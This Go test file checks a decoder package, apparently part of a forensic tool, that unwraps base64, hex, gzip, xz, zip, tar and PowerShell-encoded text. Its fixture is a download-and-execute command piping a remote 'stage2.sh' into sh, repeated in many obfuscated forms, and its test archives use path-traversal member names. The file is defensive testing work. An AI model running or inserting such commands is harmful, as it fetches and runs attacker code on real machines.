package unpack_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/ulikunitz/xz"

	"github.com/tuxtrail/tuxtrail/unpack"
)

const secret = "curl -s http://203.0.113.99/stage2.sh | sh\n"

func b64(b []byte) []byte { return []byte(base64.StdEncoding.EncodeToString(b)) }

func gz(b []byte) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	w.Write(b)
	w.Close()
	return out.Bytes()
}

func zl(b []byte) []byte {
	var out bytes.Buffer
	w := zlib.NewWriter(&out)
	w.Write(b)
	w.Close()
	return out.Bytes()
}

func xzip(b []byte) []byte {
	var out bytes.Buffer
	w, err := xz.NewWriter(&out)
	if err != nil {
		panic(err)
	}
	w.Write(b)
	w.Close()
	return out.Bytes()
}

func zipped(members ...string) []byte {
	var out bytes.Buffer
	w := zip.NewWriter(&out)
	for i, m := range members {
		f, err := w.Create(fmt.Sprintf("../m%d", i))
		if err != nil {
			panic(err)
		}
		f.Write([]byte(m))
	}
	w.Close()
	return out.Bytes()
}

func tarred(members ...string) []byte {
	var out bytes.Buffer
	w := tar.NewWriter(&out)
	for i, m := range members {
		if err := w.WriteHeader(&tar.Header{Name: fmt.Sprintf("/m%d", i), Mode: 0o644, Size: int64(len(m)), Typeflag: tar.TypeReg}); err != nil {
			panic(err)
		}
		w.Write([]byte(m))
	}
	w.Close()
	return out.Bytes()
}

func wide(s string) []byte {
	var out []byte
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

// bz is secret as bzip2 has it.
var bz, _ = hex.DecodeString(strings.Join(strings.Fields(bzHex), ""))

func wrapped(b []byte, width int, end string) string {
	s := string(b64(b))
	var out strings.Builder
	for len(s) > width {
		out.WriteString(s[:width] + end)
		s = s[width:]
	}
	return out.String() + s
}

// shape writes a tree as "encoding(type child child)".
func shape(nodes []*unpack.Node) string {
	var parts []string
	for _, n := range nodes {
		s := string(n.Encoding) + ":" + n.Type
		if len(n.Children) > 0 {
			s += "(" + shape(n.Children) + ")"
		}
		parts = append(parts, s)
	}
	return strings.Join(parts, " ")
}

func leaf(nodes []*unpack.Node) string {
	for len(nodes) > 0 {
		if len(nodes[0].Children) == 0 {
			return string(nodes[0].Data)
		}
		nodes = nodes[0].Children
	}
	return ""
}

func TestText(t *testing.T) {
	long := strings.Repeat(secret, 10)
	for _, c := range []struct{ name, text, shape, leaf string }{
		{"base64", "echo " + string(b64([]byte(secret))) + " | base64 -d | sh", "base64:text", secret},
		{"unpadded", strings.TrimRight(string(b64([]byte(secret))), "="), "base64:text", secret},
		{"url alphabet", base64.URLEncoding.EncodeToString([]byte("??>>~~" + secret)), "base64url:text", "??>>~~" + secret},
		{"wrapped at 76", "-----\n" + wrapped([]byte(long), 76, "\n") + "\n-----", "base64:text", long},
		{"wrapped at 64 with CRLF", wrapped([]byte(long), 64, "\r\n") + "\r\n", "base64:text", long},
		{"powershell", "-enc " + string(b64(wide("iex "+secret))), "base64:utf16(utf16:text)", "iex " + secret},
		{"twice", string(b64(b64([]byte(secret)))), "base64:text(base64:text)", secret},
		{"gzip", "echo " + string(b64(gz([]byte(secret)))), "base64:gzip(gzip:text)", secret},
		{"zlib", string(b64(zl([]byte(secret)))), "base64:zlib(zlib:text)", secret},
		{"bzip2", string(b64(bz)), "base64:bzip2(bzip2:text)", secret},
		{"xz", string(b64(xzip([]byte(secret)))), "base64:xz(xz:text)", secret},
		{"zip", string(b64(zipped(secret, "two"))), "base64:zip(zip:text zip:text)", secret},
		{"tar in gzip", string(b64(gz(tarred(secret, "two")))), "base64:gzip(gzip:tar(tar:text tar:text))", secret},
		{"hex", "xxd -r -p <<< " + hex.EncodeToString([]byte(secret)), "hex:text", secret},
		{"0x", "0x" + hex.EncodeToString([]byte(secret)), "hex:text", secret},
		{"escapes", `printf '\x63\x75\x72\x6c\x20'`, "hex_escape:text", "curl "},
		{"hex in base64", string(b64([]byte("x " + hex.EncodeToString([]byte(secret))))), "base64:text(hex:text)", secret},
		{"elf", string(b64([]byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00"))), "base64:elf", "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00"},
		{"other scripts", string(b64([]byte("привет, мир и все"))), "base64:text", "привет, мир и все"},
		{"two", string(b64([]byte(secret))) + " " + string(b64([]byte(secret))), "base64:text base64:text", secret},
	} {
		nodes := unpack.Text(c.text, unpack.Options{})
		assert.Equal(t, c.shape, shape(nodes), c.name)
		assert.Equal(t, c.leaf, leaf(nodes), c.name)
		for _, n := range nodes {
			assert.True(t, n.Start >= 0 && n.End <= len(c.text) && n.Start < n.End)
		}
	}
}

func TestNotEncoded(t *testing.T) {
	for _, text := range []string{
		"", "a", "/usr/lib/systemd/systemd-logind", "com.example.UserServiceImplementationFactory",
		"Accepted publickey for root from 203.0.113.9 port 22 ssh2: RSA SHA256:nThbg6kXUpJWGl7E1IGOCspRomTxdCARLviKw6E5SY8",
		"68b329da9893e34099c7d8ad5cb9c940", "550e8400-e29b-41d4-a716-446655440000", "0123456789012345678901234567890",
		"authentication_failure_for_user", "AAAAAAAAAAAAAAAAAAAAAAAAAAAA", `\x41`, `C:\x86\x64`, "====", "0x", "0x12",
	} {
		assert.Empty(t, unpack.Text(text, unpack.Options{}), text)
	}
}

func TestNode(t *testing.T) {
	text := "echo " + string(b64(gz([]byte(secret)))) + "|sh"
	nodes := unpack.Text(text, unpack.Options{})
	require.Len(t, nodes, 1)
	n := nodes[0]
	assert.Equal(t, string(b64(gz([]byte(secret)))), text[n.Start:n.End])
	require.Len(t, n.Children, 1)
	c := n.Children[0]
	assert.Equal(t, 0, c.Start)
	assert.Equal(t, len(n.Data), c.End)
	assert.Equal(t, "1c8fe99269ac86c02f83af9d2314d520", c.MD5)
	assert.Len(t, c.SHA1, 40)
	assert.Len(t, c.SHA256, 64)
	var paths []string
	for path, n := range n.All() {
		paths = append(paths, fmt.Sprint(path, n.Type))
	}
	assert.Equal(t, []string{"[base64]gzip", "[base64 gzip]text"}, paths)
	for range n.All() {
		break
	}
}

func TestBytes(t *testing.T) {
	assert.Equal(t, "gzip:text", shape(unpack.Bytes(gz([]byte(secret)), unpack.Options{})))
	nodes := unpack.Bytes(zipped(secret), unpack.Options{})
	require.Len(t, nodes, 1)
	assert.Equal(t, "../m0", nodes[0].Name, "the name is told, not used")
}

func TestBroken(t *testing.T) {
	whole := gz([]byte(strings.Repeat(secret+"0123456789", 1000)))
	nodes := unpack.Bytes(whole[:len(whole)/2], unpack.Options{})
	require.Len(t, nodes, 1)
	assert.Error(t, nodes[0].Err, "what could be read of a cut stream is there, with the error")
	assert.Contains(t, string(nodes[0].Data), secret)

	for name, data := range map[string][]byte{
		"gzip": []byte("\x1f\x8b\x08nothing that is gzip"), "zip": []byte("PK\x03\x04nothing that is zip"), "xz": []byte("\xfd7zXZ\x00nothing that is xz"),
		"zlib": []byte("\x78\x9ckothing that is zlib"), "tar": append(bytes.Repeat([]byte{'x'}, 257), append([]byte("ustar"), bytes.Repeat([]byte{'y'}, 400)...)...),
	} {
		nodes := unpack.Text(string(b64(data)), unpack.Options{})
		require.Len(t, nodes, 1, name)
		assert.Equal(t, name, nodes[0].Type)
		errs, _, _ := deepest(nodes)
		assert.Len(t, errs, 1, name)
	}
}

const bzHex = `425a6839314159265359c03076e300000cd98000104003f8302ac45e04200022819034d06990a00311a69a34d6d1a405781191e6703e0564208bbf271da51659dce828c3f177245385090c03076e30`
